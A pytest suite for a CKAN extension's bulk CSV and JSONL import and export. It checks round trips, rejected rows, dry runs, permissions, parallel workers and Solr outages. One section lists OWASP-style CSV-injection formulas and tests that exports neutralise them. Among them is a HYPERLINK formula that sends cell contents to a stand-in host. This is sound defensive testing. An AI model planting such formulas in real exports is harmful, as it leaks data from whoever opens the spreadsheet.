"""Bulk import and export (ckan pe-catalog import/export), against the real stack."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from ckan import model
from ckan.cli.cli import ckan
from ckan.lib import search
from ckan.logic import ValidationError
from ckan.tests import factories
from ckan.tests.helpers import call_action
from ckanext.scheming.helpers import scheming_get_dataset_schema

from ckanext.pe_catalog import bulk, bulk_batch, reindex
from ckanext.pe_catalog.logic import index_guard
from harness.sample import DATASET_TYPES, dataset_dict

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")

# fields compared after a round trip (besides the schema's own fields)
VOLATILE = {
    "id",
    "metadata_created",
    "metadata_modified",
    "revision_id",
    "organization",
    "num_resources",
    "num_tags",
    "tags",
    "groups",
    "relationships_as_object",
    "relationships_as_subject",
    "creator_user_id",
    "state",
    "resources",
    "isopen",
    "license_title",
    "license_url",
}


@pytest.fixture
def org(editor_org):
    return editor_org["org"]


@pytest.fixture
def sysadmin_ctx():
    admin = factories.Sysadmin()
    return lambda: {"user": admin["name"]}


def _create(ctx, dataset_type: str, org: dict, name: str, **overrides) -> dict:
    data = dataset_dict(dataset_type, org["id"], name=name, **overrides)
    data.setdefault(
        "resources", [{"url": "https://example.org/datos.csv", "name": "Datos", "format": "CSV"}]
    )
    return call_action("package_create", ctx(), **data)


def _comparable(pkg: dict) -> dict:
    out = {k: v for k, v in pkg.items() if k not in VOLATILE}
    out["tags"] = sorted(t["name"] for t in pkg.get("tags", []))
    out["resources"] = [{k: r.get(k) for k in ("url", "name", "format")} for r in pkg["resources"]]
    return out


def _invoke(cli, *args: str):
    return cli.invoke(ckan, ["pe-catalog", *args], catch_exceptions=False)


def _count(dataset_type: str) -> int:
    return (
        model.Session.query(model.Package)
        .filter(model.Package.type == dataset_type, model.Package.state == "active")
        .count()
    )


@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_loads_back_unchanged(cli, tmp_path, org, sysadmin_ctx, dataset_type, fmt):
    before = [
        _create(sysadmin_ctx, dataset_type, org, f"{dataset_type}-uno", tag_string="agua,Cusco"),
        _create(
            sysadmin_ctx,
            dataset_type,
            org,
            f"{dataset_type}-dos",
            private=True,
            **({"report_code": "INS-2024-02"} if dataset_type == "hta-report" else {}),
        ),
    ]
    path = tmp_path / f"export.{fmt}"

    exported = _invoke(cli, "export", "--type", dataset_type, "--format", fmt, "-o", str(path))
    assert exported.exit_code == 0, exported.output
    for pkg in before:
        call_action("dataset_purge", sysadmin_ctx(), id=pkg["id"])
    imported = _invoke(cli, "import", str(path), "--type", dataset_type)

    assert imported.exit_code == 0, imported.output
    assert "2 rows: 2 were created, 0 were updated, 0 rejected" in imported.output
    for pkg in before:
        again = call_action("package_show", sysadmin_ctx(), id=pkg["name"])
        assert _comparable(again) == _comparable(pkg)


def test_csv_lists_and_columns(cli, tmp_path, org, sysadmin_ctx):
    _create(sysadmin_ctx, "hta-report", org, "informe")
    path = tmp_path / "hta.csv"
    _invoke(cli, "export", "--type", "hta-report", "-o", str(path))

    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    assert row["authors"] == "Pérez García, Ana; Quispe Mamani, Luis"
    assert row["owner_org"] == org["name"]
    assert row["publication_date"] == "2023-05-10"
    assert row["private"] == "false"
    assert json.loads(row["resources"])[0]["url"] == "https://example.org/datos.csv"


def test_import_creates_then_updates_by_name(cli, tmp_path, org):
    path = tmp_path / "becas.jsonl"
    record = dataset_dict("scholarship", org["name"], name="beca-importada")
    record.pop("type")
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")

    first = _invoke(cli, "import", str(path), "--type", "scholarship")
    record["title"] = "Título corregido"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    second = _invoke(cli, "import", str(path), "--type", "scholarship")

    assert "1 were created" in first.output
    assert "0 were created, 1 were updated" in second.output
    assert _count("scholarship") == 1
    assert call_action("package_show", id="beca-importada")["title"] == "Título corregido"


def test_import_records_the_activity_of_each_write(cli, tmp_path, editor_org):
    """As the form's create and edit do: "new package", then "changed package",
    each holding the dataset as package_show shows it, by the importing user;
    a row that changes nothing records nothing, and keeps its version (the
    resources' media types are guessed at creation as on update)."""
    editor = editor_org["user"]["name"]
    path = tmp_path / "becas.jsonl"
    record = dataset_dict("scholarship", editor_org["org"]["name"], name="beca-con-historia")
    record.pop("type")
    record["resources"] = [
        {"name": "Bases", "url": "https://example.org/bases.pdf", "format": "PDF"}
    ]

    def run() -> str:
        path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
        return _invoke(cli, "import", str(path), "--type", "scholarship", "--user", editor).output

    run()
    created = call_action("package_show", id="beca-con-historia")
    assert created["resources"][0]["mimetype"] == "application/pdf"
    assert "0 were created, 1 were updated" in run()  # unchanged
    assert call_action("package_show", id="beca-con-historia") == created
    record["title"] = "Título corregido"
    run()

    activities = call_action("package_activity_list", id="beca-con-historia")
    assert [(a["activity_type"], a["user_id"]) for a in activities] == [
        ("changed package", editor_org["user"]["id"]),
        ("new package", editor_org["user"]["id"]),
    ]
    stored = call_action("activity_data_show", id=activities[0]["id"], object_type="package")
    assert stored == call_action("package_show", id="beca-con-historia")


def test_csv_cells_a_row_cannot_use_reject_that_row_only(cli, tmp_path, org):
    """A "private" word that is neither yes nor no (read as no, it would
    publish the dataset), resources that are not JSON, a cell longer than
    csv's own limit: that row is rejected, naming its field; the others load."""
    path = tmp_path / "ambiente.csv"
    _write_csv(
        path,
        [
            _csv_row(org, "privado-si", private="sí", resources=""),
            _csv_row(org, "privado-quizas", private="quizás"),
            _csv_row(org, "recursos-rotos", resources='[{"url": "x"'),
            _csv_row(org, "muy-largo", notes="x" * 300_000),
            _csv_row(org, "publico", private="n"),
            # nested beyond Python's parser, and beyond what can go to a worker
            _csv_row(org, "anidado-1000", resources="[" * 1000 + "]" * 1000),
            _csv_row(org, "anidado-900", resources="[" * 900 + "]" * 900),
            _csv_row(org, "nul\x00nombre"),
            _csv_row(org, "cien-mil", environmental_components=";".join(["x"] * 100_000)),
        ],
    )

    result = _invoke(cli, "import", str(path), "--type", "environmental-data", "--workers", "2")

    assert "9 rows: 2 were created, 0 were updated, 7 rejected" in result.output
    assert "row 3: private: Must be true or false" in result.output
    assert "row 4: resources: Not valid JSON" in result.output
    assert "row 5: notes: " in result.output
    assert "row 7: resources: Nested too deeply" in result.output
    assert "row 8: resources: Nested too deeply" in result.output
    assert "row 9: name: " in result.output
    assert result.output.count("row 10: environmental_components: ") == 1
    assert "Traceback" not in result.output
    assert call_action("package_show", id="privado-si")["private"] is True
    assert call_action("package_show", id="publico")["private"] is False
    assert {model.Package.get(n) for n in ("privado-quizas", "recursos-rotos", "muy-largo")} == {
        None
    }


def _write_csv(path, rows: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _csv_row(org: dict, name: str, **overrides) -> dict:
    record = dataset_dict("environmental-data", org["name"], name=name, **overrides)
    record.pop("type")
    return {k: ";".join(v) if isinstance(v, list) else v for k, v in record.items()}


def test_rejected_rows_are_reported_and_good_rows_load(cli, tmp_path, org):
    path = tmp_path / "ambiente.csv"
    _write_csv(
        path,
        [
            _csv_row(org, "bueno-1"),
            _csv_row(org, "malo", ubigeo="99", temporal_start_date="ayer"),
            _csv_row(org, "bueno-2"),
        ],
    )

    result = _invoke(cli, "import", str(path), "--type", "environmental-data")

    assert result.exit_code == 1
    assert "row 3: ubigeo:" in result.output
    assert "row 3: temporal_start_date:" in result.output
    assert "3 rows: 2 were created, 0 were updated, 1 rejected" in result.output
    assert _count("environmental-data") == 2
    assert model.Package.get("malo") is None


def test_dry_run_validates_and_writes_nothing(cli, tmp_path, org):
    path = tmp_path / "ambiente.csv"
    _write_csv(path, [_csv_row(org, "bueno"), _csv_row(org, "malo", ubigeo="99")])

    result = _invoke(cli, "import", str(path), "--type", "environmental-data", "--dry-run")

    assert result.exit_code == 1
    assert "2 rows: 1 would be created, 0 would be updated, 1 rejected" in result.output
    assert _count("environmental-data") == 0
    assert call_action("package_search", q="*:*", include_private=True)["count"] == 0


def test_utf8_with_byte_order_mark_is_accepted(cli, tmp_path, org):
    path = tmp_path / "bom.csv"
    _write_csv(path, [_csv_row(org, "con-bom", title="Calidad del aire en Áncash")])
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())

    result = _invoke(cli, "import", str(path), "--type", "environmental-data")

    assert result.exit_code == 0, result.output
    assert call_action("package_show", id="con-bom")["title"] == "Calidad del aire en Áncash"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty"),
        (b"name,title\n", "only a header"),
        (b"name,titulo\nx,y\n", "Unknown columns: titulo"),
        (b"title\nSin nombre\n", 'needs a "name" column'),
        ("name,title\ncalidad,Calidad del aire en Áncash\n".encode("latin-1"), "not UTF-8"),
    ],
)
def test_bad_files_are_refused_whole(cli, tmp_path, org, content, message):
    path = tmp_path / "malo.csv"
    path.write_bytes(content)

    result = _invoke(cli, "import", str(path), "--type", "environmental-data")

    assert result.exit_code == 2
    assert message in result.output
    assert _count("environmental-data") == 0


def test_a_column_repeated_in_the_header_refuses_the_file(cli, tmp_path, org):
    path = tmp_path / "ambiente.csv"
    path.write_text("name,name,title\nuno,dos,Agua\n", encoding="utf-8")

    result = _invoke(cli, "import", str(path), "--type", "environmental-data")

    assert result.exit_code == 2
    assert "Columns repeated in the header: name" in result.output


def test_duplicate_names_refuse_the_file(cli, tmp_path, org):
    path = tmp_path / "duplicado.csv"
    _write_csv(path, [_csv_row(org, "repetido"), _csv_row(org, "otro"), _csv_row(org, "repetido")])

    result = _invoke(cli, "import", str(path), "--type", "environmental-data")

    assert result.exit_code == 2
    assert "Names repeated in the file: repetido (rows 2, 4)" in result.output
    assert _count("environmental-data") == 0


def test_import_as_a_user_respects_permissions(cli, tmp_path, org):
    outsider = factories.User()
    path = tmp_path / "ambiente.csv"
    _write_csv(path, [_csv_row(org, "ajeno")])

    result = _invoke(
        cli, "import", str(path), "--type", "environmental-data", "--user", outsider["name"]
    )

    assert result.exit_code == 1
    assert "row 2:" in result.output
    assert _count("environmental-data") == 0


@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_documented_example_files_load(cli, dataset_type, fmt):
    from pathlib import Path

    example = Path(__file__).resolve().parents[2] / "docs" / "examples" / f"{dataset_type}.{fmt}"
    assert _invoke(cli, "seed", "--no-sample").exit_code == 0

    result = _invoke(cli, "import", str(example), "--type", dataset_type)

    assert result.exit_code == 0, result.output
    assert "3 rows: 3 were created" in result.output


# --- spreadsheets -----------------------------------------------------------

# OWASP's CSV injection examples, a quote before one, and a full-width sign
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Ver")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "'=1+1",
    "\uff1d1+1",
]


def _spreadsheet_formulas(path, tmp_path) -> list[str]:
    """The formulas LibreOffice Calc finds when it opens the CSV file (UTF-8, commas)."""
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = (tmp_path / (path.stem + ".fods")).read_text(encoding="utf-8")
    return re.findall(r'table:formula="([^"]*)"', sheet)


def _create_with_formulas(ctx, dataset_type: str, org: dict, name: str) -> dict:
    """A dataset whose every free-text field (those that take such text) starts a formula."""
    data = dataset_dict(dataset_type, org["id"], name=name)
    fields = [f["field_name"] for f in scheming_get_dataset_schema(dataset_type)["dataset_fields"]]
    hostile = {}
    for i, field in enumerate(f for f in fields if f not in ("name", "owner_org")):
        formula = FORMULAS[i % len(FORMULAS)]
        if isinstance(data.get(field), list):
            hostile[field] = [formula, *data[field][1:]]
        elif isinstance(data.get(field), str):
            hostile[field] = formula
    while True:
        try:
            return _create(ctx, dataset_type, org, name, **hostile)
        except ValidationError as error:
            refused = set(error.error_dict) & set(hostile)
            assert refused, error.error_dict
            for field in refused:  # a coded field (a date, a choice) refuses them
                del hostile[field]


@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
def test_csv_export_opens_without_formulas_and_loads_back(
    cli, tmp_path, org, sysadmin_ctx, dataset_type
):
    pkg = _create_with_formulas(sysadmin_ctx, dataset_type, org, "formulas")
    assert pkg["title"] == FORMULAS[0]
    path = tmp_path / "export.csv"
    _invoke(cli, "export", "--type", dataset_type, "-o", str(path))
    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    assert row["title"] == "'" + FORMULAS[0]  # there, as text

    assert _spreadsheet_formulas(path, tmp_path) == []

    imported = _invoke(cli, "import", "--type", dataset_type, str(path))
    assert "0 rejected" in imported.output, imported.output
    again = call_action("package_show", sysadmin_ctx(), id=pkg["name"])
    assert _comparable(again) == _comparable(pkg)


def test_search_page_export_opens_without_formulas(app, tmp_path, org, sysadmin_ctx):
    _create_with_formulas(sysadmin_ctx, "hta-report", org, "formulas")
    path = tmp_path / "hta-reports.csv"
    path.write_bytes(app.get("/hta-report/export.csv").get_data())
    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    assert row["title"] == "'" + FORMULAS[0]

    assert _spreadsheet_formulas(path, tmp_path) == []


def test_csv_round_trip_keeps_separators_and_spaces(cli, tmp_path, org, sysadmin_ctx):
    pkg = _create(
        sysadmin_ctx,
        "hta-report",
        org,
        "exacto",
        authors=["Smith; John", "[Equipo] Revisión", "=x"],
        notes=" empieza con espacio\ny termina con salto\n",
    )
    path = tmp_path / "hta.csv"
    _invoke(cli, "export", "--type", "hta-report", "-o", str(path))
    imported = _invoke(cli, "import", "--type", "hta-report", str(path))
    assert "0 rejected" in imported.output, imported.output

    again = call_action("package_show", sysadmin_ctx(), id="exacto")
    assert again["authors"] == pkg["authors"] == ["Smith; John", "[Equipo] Revisión", "=x"]
    assert again["notes"] == pkg["notes"]


# --- several workers, deferred Solr commits ---------------------------------

CKAN = Path(sys.executable).parent / "ckan"


@pytest.fixture
def ini(request) -> Path:
    """The configuration this test session runs with (its database, Solr, Redis)."""
    return Path(str(request.config.getoption("ckan_ini"))).resolve()


def _run(ini: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``ckan pe-catalog ...`` in its own process, as an operator runs it."""
    return subprocess.run(
        [str(CKAN), "-c", str(ini), "pe-catalog", *args],
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )


def _report(result: subprocess.CompletedProcess[str]) -> tuple[int, list[str], str]:
    """Exit code, the row lines and the summary line of an import."""
    rows = [line for line in result.stderr.splitlines() if line.startswith("row ")]
    summary = [line for line in result.stdout.splitlines() if " rows: " in line]
    assert len(summary) == 1, (result.stdout, result.stderr[-3000:])
    return result.returncode, rows, summary[0]


def _hta_records(org: dict, n: int) -> list[dict]:
    """``n`` HTA reports, with rows that depend on each other and rejected rows."""
    records = []
    for i in range(n):
        record = dataset_dict(
            "hta-report", org["name"], name=f"informe-{i:02d}", report_code=f"INS-2024-{i:03d}"
        )
        record.pop("type")
        records.append(record)
    records[9]["report_code"] = records[3]["report_code"]  # line 10 repeats line 4's code
    records[7]["related_reports"] = ["informe-01"]  # an earlier line's dataset
    records[2]["related_reports"] = ["informe-11"]  # a later one's: not there yet
    records[5]["publication_date"] = "ayer"
    records[6]["owner_org"] = "no-existe"
    return records


def _write_jsonl(path: Path, records: list[dict]) -> Path:
    path.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8"
    )
    return path


def _names(dataset_type: str) -> set[str]:
    model.Session.remove()  # what the import's processes committed
    return {
        name
        for (name,) in model.Session.query(model.Package.name).filter(
            model.Package.type == dataset_type, model.Package.state == "active"
        )
    }


def _found(dataset_type: str) -> set[str]:
    found = call_action(
        "package_search", fq=f"+dataset_type:{dataset_type}", rows=1000, include_private=True
    )
    return {d["name"] for d in found["results"]}


def test_workers_report_what_one_process_reports(ini, tmp_path, org, sysadmin_ctx):
    before = {
        name: _create(sysadmin_ctx, "hta-report", org, name, report_code=f"INS-2024-{i:03d}")
        for i, name in ((0, "informe-00"), (20, "informe-20"))
    }
    path = _write_jsonl(tmp_path / "informes.jsonl", _hta_records(org, 24))

    one = _report(_run(ini, "import", str(path), "--type", "hta-report", "--workers", "1"))
    loaded_once = _names("hta-report")
    for name in loaded_once - set(before):
        call_action("dataset_purge", sysadmin_ctx(), id=name)
    several = _report(_run(ini, "import", str(path), "--type", "hta-report", "--workers", "3"))

    assert several == one
    code, rows, summary = several
    assert code == 1
    assert summary == "24 rows: 18 were created, 2 were updated, 4 rejected"
    # line 3 names line 12's dataset, not yet there; line 6's date; line 7's
    # organization; line 10 repeats line 4's report code
    assert sorted({int(line.split(":")[0].split()[1]) for line in rows}) == [3, 6, 7, 10]
    assert any(line.startswith("row 3: related_reports: ") for line in rows)
    assert any(line.startswith("row 10: report_code: ") for line in rows)
    assert _names("hta-report") == loaded_once
    # committed in Solr when the command returns: every dataset is found
    assert _found("hta-report") == loaded_once
    assert not reindex.difference()


def test_dry_run_with_workers_writes_nothing(ini, tmp_path, org):
    path = _write_jsonl(tmp_path / "informes.jsonl", _hta_records(org, 12))

    one = _report(
        _run(ini, "import", str(path), "--type", "hta-report", "--dry-run", "--workers", "1")
    )
    several = _run(ini, "import", str(path), "--type", "hta-report", "--dry-run", "--workers", "3")

    assert _report(several) == one
    assert one[2].startswith("12 rows: ") and "would be created" in one[2]
    assert _names("hta-report") == set()
    assert call_action("package_search", q="*:*", include_private=True)["count"] == 0
    # what the real run then says, row by row: line 10 repeats line 4's report
    # code, which only a row written before it shows
    real = _report(_run(ini, "import", str(path), "--type", "hta-report", "--workers", "1"))
    assert real[1] == one[1]
    assert real[2] == one[2].replace("would be", "were")
    assert any(line.startswith("row 10: report_code: ") for line in one[1])


# --- a Solr outage during an import -----------------------------------------


def _indexed() -> set[str]:
    result = search.query_for(model.Package).run({"q": "*:*", "fl": "id name", "rows": 1000})
    return {d["name"] for d in result["results"]}


def _replayed(expected: set[str]) -> set[str]:
    """What the index holds once it holds ``expected``, or after a minute."""
    deadline = time.monotonic() + 60
    while True:
        search.commit()
        indexed = _indexed()
        if indexed == expected or time.monotonic() > deadline:
            return indexed
        time.sleep(0.5)


def test_an_outage_part_way_leaves_no_dataset_half_written(solr, org, sysadmin_ctx, monkeypatch):
    # batches of two: Solr stops once the first batch has committed
    monkeypatch.setattr(bulk, "BATCH", 2)
    records = [
        (i + 1, {**r, "related_reports": []}) for i, r in enumerate(_hta_records(org, 12)[:6])
    ]
    for _row, record in records:
        record.update(publication_date="2023-05-10", owner_org=org["name"])
    loaded = 0

    def progress(count: int) -> None:
        nonlocal loaded
        loaded += count
        if loaded == 2:
            solr.stop()  # a real outage: the JVM is killed, its port closes

    outcome = bulk.load(records, "hta-report", sysadmin_ctx, progress=progress)

    assert (outcome.created, outcome.updated) == (2, 0)
    refused = index_guard.message(write=True)
    assert outcome.rejections == [bulk.Rejection(row, "", refused) for row in (3, 4, 5, 6)]
    # lines 3 and 4 (a batch) were written, then not indexed: rolled back,
    # not left in the database
    assert _names("hta-report") == {"informe-00", "informe-01"}
    solr.start()
    index_guard.forget_outage()
    # the two loaded rows, taken by Solr but not yet committed when it died,
    # come back from its update log: Solr replays it once started, in the background
    assert _replayed({"informe-00", "informe-01"}) == {"informe-00", "informe-01"}
    assert not reindex.difference()


def test_a_batch_solr_refuses_is_undone_and_loads_row_by_row(org, sysadmin_ctx, monkeypatch):
    """Solr answering but refusing a batch's update: nothing of the batch stays
    (datasets, activities), and its rows load again one at a time."""
    # Solr refuses the first update, as CKAN's index_package reports a refusal
    # (a real refusal needs a document no validated dataset makes)
    sent: list[int] = []
    send = bulk_batch.send

    def refuse_first(documents: list[dict]) -> None:
        sent.append(len(documents))
        if len(sent) == 1:
            raise search.SearchIndexError("Solr returned an error: refused")
        send(documents)

    monkeypatch.setattr(bulk_batch, "send", refuse_first)
    records = [(i + 1, r) for i, r in enumerate(_hta_records(org, 12)[:3])]
    for _row, record in records:
        record.update(related_reports=[], owner_org=org["name"])

    outcome = bulk.load(records, "hta-report", sysadmin_ctx)

    assert sent == [3]  # the one batch; then each row is indexed on its own
    assert (outcome.created, outcome.updated, outcome.rejections) == (3, 0, [])
    names = {"informe-00", "informe-01", "informe-02"}
    assert _names("hta-report") == names
    assert _indexed() == names
    from ckanext.activity.model import Activity

    created = model.Session.query(Activity.object_id).filter_by(activity_type="new package")
    assert sorted(created) == sorted((model.Package.get(n).id,) for n in names)


def test_with_solr_down_workers_write_nothing_and_say_so(solr, ini, tmp_path, org):
    path = _write_jsonl(tmp_path / "informes.jsonl", _hta_records(org, 12)[:5])
    outage = tmp_path / "outage.ini"
    outage.write_text(f"[app:main]\nuse = config:{ini}\nsolr_url = {solr.url}\n")
    solr.stop()

    code, rows, summary = _report(
        _run(outage, "import", str(path), "--type", "hta-report", "--workers", "2")
    )

    assert code == 1
    assert summary == "5 rows: 0 were created, 0 were updated, 5 rejected"
    assert [line.split(":")[0] for line in rows] == [f"row {n}" for n in range(1, 6)]
    messages = {line.split(": ", 1)[1] for line in rows}
    assert len(messages) == 1 and "127.0.0.1" not in rows[0] and "solr" not in rows[0].lower()
    assert _names("hta-report") == set()
